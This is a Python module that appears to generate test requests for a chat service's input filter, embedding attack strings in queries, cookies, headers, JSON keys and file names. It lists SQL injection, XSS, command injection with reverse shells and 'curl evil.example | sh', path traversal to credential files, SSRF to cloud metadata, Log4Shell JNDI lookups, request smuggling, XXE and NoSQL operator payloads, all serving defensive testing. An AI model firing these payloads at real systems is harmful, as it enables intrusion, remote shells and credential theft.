"""Attacks on places where no text of people belongs: addresses, query strings, heads, cookies, names of fields, ids.

The same strings within a message are what people may write about, so none of these is in a field for texts.
"""

from typing import NamedTuple
from urllib.parse import quote

SQL_INJECTION = (
    "1' OR '1'='1",
    "1 OR 1=1--",
    "' UNION SELECT null,null,version()--",
    "1; DROP TABLE users--",
    "1' AND SLEEP(5)#",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM "
    "information_schema.tables GROUP BY x)a)",
    "admin'/*",
    "1; WAITFOR DELAY '0:0:5'--",
    "'; EXEC xp_cmdshell('dir')--",
    "1 UNION ALL SELECT 1,2,3,table_name FROM information_schema.tables",
    "' OR 1=1 LIMIT 1-- -",
    "1' AND extractvalue(1,concat(0x7e,user()))-- -",
    '" OR ""="',
    "1) OR (1=1",
    "1'||(SELECT password FROM users LIMIT 1)||'",
    "-1' UNION SELECT load_file('/etc/passwd')-- -",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "'; SELECT pg_sleep(5)--",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "'><body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<video><source onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<x onclick=alert(1)>click",
    "<style>@import 'http://evil.example/x.css';</style>",
)
COMMANDS = (
    "; cat /etc/passwd",
    "| id",
    "$(cat /etc/passwd)",
    "`wget http://evil.example/x.sh`",
    "; ping -c 10 127.0.0.1",
    "&& curl http://evil.example/x | sh",
    "; /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "|| nc -e /bin/sh 10.0.0.1 4444",
    "; python3 -c 'import os; os.system(\"id\")'",
    "() { :; }; /bin/bash -c 'id'",
    "& ipconfig /all",
    "; powershell -enc SQBFAFgA",
    "| cmd.exe /c dir",
    "; perl -e 'exec \"/bin/sh\"'",
    "$(sleep 10)",
    ";busybox telnetd -l /bin/sh",
)
FILES = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "php://filter/convert.base64-encode/resource=index.php",
    "file:///etc/passwd",
    "/var/log/auth.log",
    "expect://id",
    "../../../../../boot.ini",
    "/etc/passwd\0.png",
    "zip://x.zip#shell.php",
    "../../.ssh/id_rsa",
    "/root/.bash_history",
)
REMOTE_FILES = (
    "http://10.0.0.5/shell.txt?",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:6379/",
    "https://192.168.1.1/admin?",
    "ftp://203.0.113.9/x.php",
    "http://evil.example/r57.txt?",
    "file://127.0.0.1/etc/passwd",
    "http://[::ffff:169.254.169.254]/",
)
CODE_INJECTION = (
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${jndi:dns://evil.example}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
    "<?php system($_GET['c']); ?>",
    "<?=`id`?>",
    "require('child_process').exec('id')",
    "process.mainModule.require('child_process')",
    "__proto__[polluted]=1;constructor.prototype.x",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
    "java.lang.Runtime.getRuntime().exec('id')",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "phpinfo()",
    "eval(base64_decode('cGhwaW5mbygpOw=='))",
    "_$$ND_FUNC$$_function(){require('child_process')}()",
)
PAYLOADS = (
    *SQL_INJECTION,
    *SCRIPTS,
    *COMMANDS,
    *FILES,
    *REMOTE_FILES,
    *CODE_INJECTION,
)
SCANNERS = (
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "Nikto/2.5.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3",
    "Nessus SOAP",
    "gobuster/3.6",
    "DirBuster-1.0-RC1",
    "WPScan v3.8",
    "w3af.org",
    "Arachni/v1.5",
    "ZmEu",
    "OpenVAS",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Fuzz Faster U Fool v2.1",
    "Acunetix-Product",
    "jaeles",
)
RESTRICTED_FILES = (
    "/.git/config",
    "/.git/HEAD",
    "/.env",
    "/.htaccess",
    "/.htpasswd",
    "/.svn/entries",
    "/.ssh/id_rsa",
    "/.aws/credentials",
    "/.DS_Store",
    "/wp-config.php.bak",
    "/backup.sql",
    "/web.config",
    "/id_rsa.key",
    "/config.inc",
    "/dump.mdb",
    "/.bash_history",
    "/server.log",
    "/composer.lock/.git/",
    "/proc/self/environ",
    "/WEB-INF/web.xml",
)


class Attack(NamedTuple):
    """One request as bytes; `name` says what it is and where."""

    name: str
    request: bytes


def request(
    method: str, path: str, *heads: str, body: bytes = b"", host: str = "chat.example.org"
) -> bytes:
    """A request as bytes; `heads` replace the usual ones of the same name."""
    given = {head.partition(":")[0].lower() for head in heads}
    usual = [f"Host: {host}", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "Accept: */*"]
    if body:
        usual.append(f"Content-Length: {len(body)}")
    kept = [head for head in usual if head.partition(":")[0].lower() not in given]
    lines = [f"{method} {path} HTTP/1.1", *kept, *heads, "Connection: close", "", ""]
    return "\r\n".join(lines).encode() + body


def _json(path: str, body: str) -> bytes:
    return request("POST", path, "Content-Type: application/json", body=body.encode())


def _quoted(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\0", "\\u0000")


def _in_query(payload: str) -> bytes:
    return request("GET", f"/api/v1/rooms?after={quote(payload, safe='')}")


def _in_unknown_parameter(payload: str) -> bytes:
    return request("GET", f"/?page={quote(payload, safe='')}")


def _in_cookie(payload: str) -> bytes:
    return request("GET", "/api/v1/me", f"Cookie: chat_session={quote(payload, safe='')}")


def _in_form(payload: str) -> bytes:
    body = f"username={quote(payload, safe='')}&password=x".encode()
    kind = "Content-Type: application/x-www-form-urlencoded"
    return request("POST", "/api/v1/login", kind, body=body)


def _in_username(payload: str) -> bytes:
    return _json("/api/v1/login", f'{{"username": "{_quoted(payload)}", "password": "x"}}')


def _in_client_id(payload: str) -> bytes:
    new = f'{{"client_id": "{_quoted(payload)}", "body": "x"}}'
    return _json("/api/v1/rooms/06h1w46y97wh380z0cja/messages", new)


def _in_json_key(payload: str) -> bytes:
    return _json("/api/v1/rooms", f'{{"name": "x", "{_quoted(payload)}": "x"}}')


def _in_variable_name(payload: str) -> bytes:
    return _json(
        "/graphql", f'{{"query": "{{me{{id}}}}", "variables": {{"{_quoted(payload)}": 1}}}}'
    )


def _in_file_name(payload: str) -> bytes:
    body = (
        f'--b\r\nContent-Disposition: form-data; name="f"; filename="{_quoted(payload)}.php"\r\n'
        "Content-Type: text/plain\r\n\r\nx\r\n--b--\r\n"
    ).encode()
    return request(
        "POST", "/api/v1/rooms", "Content-Type: multipart/form-data; boundary=b", body=body
    )


PLACES = {
    "query": _in_query,
    "unknown parameter": _in_unknown_parameter,
    "cookie": _in_cookie,
    "form": _in_form,
    "user name": _in_username,
    "client id": _in_client_id,
    "JSON key": _in_json_key,
    "name of a variable": _in_variable_name,
    "file name": _in_file_name,
}


def _of_payloads() -> list[Attack]:
    """Each payload in five places in turn, so that each place gets payloads of every kind."""
    made = []
    places = list(PLACES.items())
    for number, payload in enumerate(PAYLOADS):
        for step in range(5):
            name, place = places[(number + 2 * step) % len(places)]
            made.append(Attack(f"{name}: {payload}", place(payload)))
    return made


def _of_paths() -> list[Attack]:
    traversals = (
        "/../../../../etc/passwd",
        "/static/../../../etc/passwd",
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/static/..%252f..%252fetc%252fpasswd",
        "/static/....//....//etc/passwd",
        "/static/..%5c..%5cwindows%5cwin.ini",
        "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/static/..;/..;/manager/html",
        "/static/app.js%00.png",
        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
        "/icons/.%%32%65/.%%32%65/etc/passwd",
        "/%2e%2e%2f%2e%2e%2fetc%2fshadow",
        "/api/v1/users/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/api/v1/users/%27%20OR%20%271%27%3D%271",
        "/api/v1/users/%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "/api/v1/users/%3Bcat%20%2Fetc%2Fpasswd",
        "/api/v1/rooms/1%3B%20DROP%20TABLE%20rooms--/messages",
        "/api/v1/rooms/1%20UNION%20SELECT%201%2C2--(/members",
        "/api/v1/rooms/%24%28id%29/events",
        "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system",
        "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%29%7D/",
        "/actuator;/env;.css",
        "/?x=%0d%0aSet-Cookie:%20a=b",
        "/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
        "/?%3Cscript%3Ealert(1)%3C/script%3E=1",
        "/?cmd=cat+/etc/passwd",
        "/?file=../../../../etc/passwd%00",
        "/?redirect=http://169.254.169.254/latest/meta-data/iam/",
        "/?u=gopher://127.0.0.1:6379/_FLUSHALL&f=../../etc/passwd",
    )
    made = [Attack(f"path: {path}", request("GET", path)) for path in traversals]
    return made + [Attack(f"file: {path}", request("GET", path)) for path in RESTRICTED_FILES]


def _of_heads() -> list[Attack]:
    made = [
        Attack(f"scanner: {agent}", request("GET", "/", f"User-Agent: {agent}"))
        for agent in SCANNERS
    ]
    values = (
        "User-Agent: ${jndi:ldap://evil.example/a}",
        "X-Api-Version: ${jndi:ldap://evil.example/a}",
        "Referer: ${jndi:rmi://evil.example/a}",
        "Authorization: Bearer ${jndi:ldap://evil.example/a}",
        "X-Forwarded-For: ${${lower:j}ndi:ldap://evil.example/a}",
        "User-Agent: () { :;}; /bin/bash -c id",
        "Referer: () { :;}; echo vulnerable",
        "User-Agent: <script>alert(1)</script>",
        "Referer: http://evil.example/<script>alert(1)</script>",
        "User-Agent: 1' UNION SELECT 1,2,version()-- -",
        "User-Agent: ../../../../etc/passwd",
        "X-Original-Url: /../../../etc/passwd",
        "Cookie: chat_session=1' OR '1'='1",
        "Cookie: chat_session=<script>alert(1)</script>",
        "Cookie: chat_session=../../../../etc/passwd",
        'Cookie: x=O:8:"stdClass":1:{s:1:"a";i:1;}',
        "Content-Encoding: gzip",
        "Proxy: http://evil.example:8080",
        "Lock-Token: x",
        "Range: bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7,7-8,8-9",
        "Range: bytes=5-1",
        "Content-Range: bytes 0-1/2",
        "X-Custom: x%0d%0aSet-Cookie: a=b",
        "Content-Type: text/xml;charset=ibm037",
        "Content-Type: application/x-java-serialized-object",
        "Content-Type: %{(#_='multipart/form-data').(#cmd='id')}",
    )
    for head in values:
        method = "POST" if head.startswith(("Content-", "Lock")) else "GET"
        body = b"x=1" if method == "POST" else b""
        made.append(Attack(f"head: {head}", request(method, "/api/v1/login", head, body=body)))
    return made


def _of_methods() -> list[Attack]:
    methods = (
        *(
            "TRACE",
            "TRACK",
            "CONNECT",
            "DEBUG",
            "PROPFIND",
            "PROPPATCH",
            "MKCOL",
            "COPY",
            "MOVE",
            "LOCK",
        ),
        *("UNLOCK", "SEARCH", "JEFF", "get", "PURGE", "INVALID-METHOD"),
    )
    return [Attack(f"method: {method}", request(method, "/")) for method in methods]


def _of_protocol() -> list[Attack]:
    post = "POST /api/v1/login HTTP/1.1\r\nHost: chat.example.org\r\n"
    raw = {
        "two lengths": f"{post}Content-Length: 1\r\nContent-Length: 2\r\n\r\nxy",
        "length and chunks": f"{post}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
        "chunks under another name": f"{post}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        "two transfer encodings": f"{post}Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n",
        "negative length": f"{post}Content-Length: -1\r\n\r\n",
        "length no number": f"{post}Content-Length: a\r\n\r\n",
        "broken chunk": f"{post}Transfer-Encoding: chunked\r\n\r\nzz\r\nx\r\n0\r\n\r\n",
        "no host": "GET / HTTP/1.1\r\nUser-Agent: x\r\n\r\n",
        "empty host": "GET / HTTP/1.1\r\nHost:\r\nUser-Agent: x\r\n\r\n",
        "two hosts": "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
        "HTTP/3.7": "GET / HTTP/3.7\r\nHost: chat.example.org\r\n\r\n",
        "no version of ours": "GET / HTTP/9\r\nHost: chat.example.org\r\n\r\n",
        "blank in a name": "GET / HTTP/1.1\r\nHost: chat.example.org\r\nX Y: 1\r\n\r\n",
        "blank before the colon": f"{post}Content-Length : 1\r\n\r\nx",
        "NUL in a head": "GET / HTTP/1.1\r\nHost: chat.example.org\r\nX-Y: a\0b\r\n\r\n",
        "control in the address": "GET /\x01 HTTP/1.1\r\nHost: chat.example.org\r\n\r\n",
        "address of another host": "GET http:// HTTP/1.1\r\nHost: chat.example.org\r\n\r\n",
        "long address": f"GET /{'a' * 40_000} HTTP/1.1\r\nHost: chat.example.org\r\n\r\n",
        "long head": f"GET / HTTP/1.1\r\nHost: chat.example.org\r\nX-Y: {'a' * 40_000}\r\n\r\n",
        "TLS in TLS": "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03",
        "SSH": "SSH-2.0-OpenSSH_9.9\r\n\r\n",
        "garbage": "\x80\x80\x01\x03\x01\r\n\r\n",
    }
    made = [Attack(f"protocol: {name}", text.encode("latin-1")) for name, text in raw.items()]
    json = "Content-Type: application/json"
    bodies = {
        "JSON that is none": (json, b'{"username": '),
        "XML": (
            "Content-Type: text/xml",
            b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        ),
        "JSON that is XML": (
            json,
            b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        ),
        "text": ("Content-Type: text/plain", b'{"username": "a"}'),
        "10,000 values": (json, b"[" + b"1," * 10_000 + b"1]"),
        "depth": (json, b"[" * 20_000 + b"]" * 20_000),
        "too large": (json, b'"' + b"x" * (2 << 20) + b'"'),
    }
    for name, (kind, body) in bodies.items():
        made.append(Attack(f"body: {name}", request("POST", "/api/v1/login", kind, body=body)))
    return made


def _of_operators() -> list[Attack]:
    """Operators of MongoDB where names or values belong."""
    bodies = (
        '{"username": {"$ne": null}, "password": {"$ne": null}}',
        '{"username": {"$gt": ""}, "password": {"$gt": ""}}',
        '{"username": {"$regex": "^a"}, "password": "x"}',
        '{"username": {"$in": ["admin", "root"]}, "password": "x"}',
        '{"$where": "sleep(1000)", "username": "x", "password": "x"}',
        '{"username": "x", "password": "x", "$or": [{}, {"a": "a"}]}',
        '[{"$match": {}}, {"$out": "users"}]',
        '{"username": {"$function": {"body": "x", "args": [], "lang": "js"}}, "password": "x"}',
    )
    made = [Attack(f"operator: {body}", _json("/api/v1/login", body)) for body in bodies]
    body = '{"body": {"$ne": 1}, "client_id": {"$gt": ""}}'
    made.append(Attack(f"operator: {body}", _json("/api/v1/rooms/x/messages", body)))
    body = '{"query": "{me{id}}", "variables": {"a": {"$ne": 1}}}'
    made.append(Attack(f"operator: {body}", _json("/graphql", body)))
    queries = (
        "after[$ne]=1",
        "after[$gt]=",
        "a[$where]=sleep(1)",
        "after[$regex]=.*",
        "a%5B%24ne%5D=1",
    )
    made += [
        Attack(f"operator: {query}", request("GET", f"/api/v1/rooms?{query}")) for query in queries
    ]
    body = '{"query": "<script>alert(1)</script>", "variables": {"x": "1 OR 1=1--"}}'
    made.append(Attack("fields of GraphQL elsewhere", _json("/api/v1/login", body)))
    return made


ATTACKS = (
    *_of_payloads(),
    *_of_paths(),
    *_of_heads(),
    *_of_methods(),
    *_of_protocol(),
    *_of_operators(),
)
